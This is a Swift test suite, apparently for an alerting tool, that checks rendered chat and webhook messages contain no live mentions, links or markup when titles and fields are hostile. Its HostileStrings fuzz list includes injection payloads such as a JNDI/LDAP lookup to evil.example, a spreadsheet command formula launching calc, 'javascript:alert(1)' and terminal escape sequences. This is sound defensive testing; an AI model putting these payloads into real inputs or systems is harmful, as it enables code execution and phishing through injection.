// SPDX-License-Identifier: Apache-2.0

import Foundation
import Testing
import VigieCore
import VigieTestSupport

@testable import VigieAlert

@Suite("Hostile titles")
struct HostileTitleTests {
    static let titles: [String] = {
        let names = (try? FileManager.default.contentsOfDirectory(atPath: folder("Titles").path)) ?? []
        return names.filter { $0.hasSuffix(".txt") }.map { String($0.dropLast(4)) }.sorted()
    }()

    private static func folder(_ name: String) -> URL {
        Bundle.module.resourceURL?.appendingPathComponent("Fixtures").appendingPathComponent(name)
            ?? URL(fileURLWithPath: name)
    }

    /// `\u{…}` in a title's file stands for that scalar.
    private static func title(_ name: String) throws -> String {
        var text = try String(contentsOf: folder("Titles").appendingPathComponent(name + ".txt"), encoding: .utf8)
        if text.hasSuffix("\n") { text.removeLast() }
        return text.replacing(/\\u\{([0-9A-Fa-f]+)\}/) { match in
            UInt32(match.1, radix: 16).flatMap(Unicode.Scalar.init).map(String.init) ?? ""
        }
    }

    private static func body(_ kind: SinkDefinition.Kind, title: String) throws -> String {
        var incident = Samples.incident([Samples.finding("clinique-lion", name: "Clinique du Lion")], title: title)
        incident.post.author = title
        let text = try #require(
            AlertWriter().text(
                for: Samples.item(incident), family: EntryFamily(watchlist: Samples.watchlist), now: Samples.now))
        return try SinkBench.sink(kind).render(text)
    }

    @Test("there are titles to test with")
    func fixtures() { #expect(HostileTitleTests.titles.count >= 14) }

    @Test(
        "no mention, link or markup of a title survives, byte for byte as expected",
        arguments: SinkDefinition.Kind.allCases)
    func golden(_ kind: SinkDefinition.Kind) throws {
        for name in HostileTitleTests.titles {
            let body = try HostileTitleTests.body(kind, title: try HostileTitleTests.title(name))
            #expect(LiveText.dangers(of: body, kind: kind) == [], "\(name)")
            if let record = ProcessInfo.processInfo.environment["VIGIE_RECORD_FIXTURES"] {
                let folder = URL(fileURLWithPath: record).appendingPathComponent(kind.rawValue)
                try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
                try (body + "\n").write(
                    to: folder.appendingPathComponent(name + ".json"), atomically: true, encoding: .utf8)
                continue
            }
            let expected = try String(
                contentsOf: HostileTitleTests.folder(kind.rawValue).appendingPathComponent(name + ".json"),
                encoding: .utf8)
            #expect(body + "\n" == expected, "\(name)")
        }
    }

    @Test("a title of a megabyte is cut, and costs little")
    func huge() throws {
        for kind in SinkBench.kinds {
            let body = try HostileTitleTests.body(kind, title: String(repeating: "@all <!channel> ", count: 65_536))
            #expect(LiveText.dangers(of: body, kind: kind) == [])
        }
    }

    @Test("100,000 random strings: valid, within limits, nothing live", arguments: 0..<10)
    func property(_ chunk: Int) throws {
        var random = SeededRandom(UInt64(chunk) + 1)
        let sinks = try SinkBench.kinds.map { ($0, try SinkBench.sink($0)) }
        let family = EntryFamily(watchlist: Samples.watchlist)
        // 50 strings stand in one message: 10 chunks of 200 messages are 100,000 strings for each sink.
        for _ in 0..<200 {
            var strings = (0..<50).map { _ in HostileStrings.random(using: &random) }
            func next() -> String { strings.removeLast() }
            let findings = (0..<4).map { number in
                Samples.finding(
                    EntryID(rawValue: "e\(number)"), name: next(),
                    evidence: (0..<5).map { _ in
                        Evidence(kind: next(), place: .prose, text: next(), weight: 0.1)
                    })
            }
            var incident = Samples.incident("V-1", findings, title: next(), notes: [next(), next()])
            incident.post.author = next()
            incident.post.excerpt = next()
            incident.post.urlDefanged = next()
            let text = try #require(AlertWriter().text(for: Samples.item(incident), family: family, now: Samples.now))
            for (kind, sink) in sinks {
                let dangers = LiveText.dangers(of: sink.render(text), kind: kind)
                if !dangers.isEmpty { Issue.record("\(kind): \(dangers.prefix(3))") }
            }
        }
    }
}

/// Strings made of what services and parsers stumble over.
enum HostileStrings {
    private static let pieces = [
        "@channel", "@here", "@all", "@everyone", "@user.name", "<!channel>", "<!here|here>", "<@U012AB3CD>",
        "<#C024BE7LR>",
        "<https://evil.example|click>", "https://evil.example/a?b=c", "HTTP://EVIL.EXAMPLE", "www.evil.example",
        "evil.example",
        "mailto:a@b.example", "j.dupont@mail.example", "[link](https://evil.example)", "![i](http://e.example/x.png)",
        "**bold**", "_it_", "~~no~~", "`code`", "```", "| a | b |", "# head", "> quote", "\n", "\r\n", "\t", "\u{0}",
        "\u{1B}[31m",
        "\u{1B}]8;;http://evil.example\u{7}", "\u{202E}", "\u{2066}", "\u{200B}", "\u{FEFF}", "\u{2028}", "\u{85}",
        "\\", "\"", "'",
        "{{ .Title }}", "${jndi:ldap://evil.example}", "=cmd|' /C calc'!A0", "&amp;", "&", "<", ">", "<script>",
        ":tada:",
        "é", "e\u{301}", "👩‍👩‍👧‍👦", "🇫🇷", "\u{E0041}", "ﷺ", "javascript:alert(1)", "ht\u{200B}tps://evil.example",
        "@\u{200B}all",
        "@\u{301}all", "`\u{301}", "<\u{338}!channel>", "$a$", "^", "~", "://", ".", "@", " ", "a", "Z", "0",
    ]

    static func random(using random: inout SeededRandom) -> String {
        var text = ""
        for _ in 0..<Int.random(in: 0...8, using: &random) {
            if Int.random(in: 0..<4, using: &random) == 0 {
                let value = UInt32.random(in: 0...0x10FFFF, using: &random)
                if let scalar = Unicode.Scalar(value) { text.unicodeScalars.append(scalar) }
            } else {
                text += pieces.randomElement(using: &random) ?? ""
            }
        }
        return text
    }
}
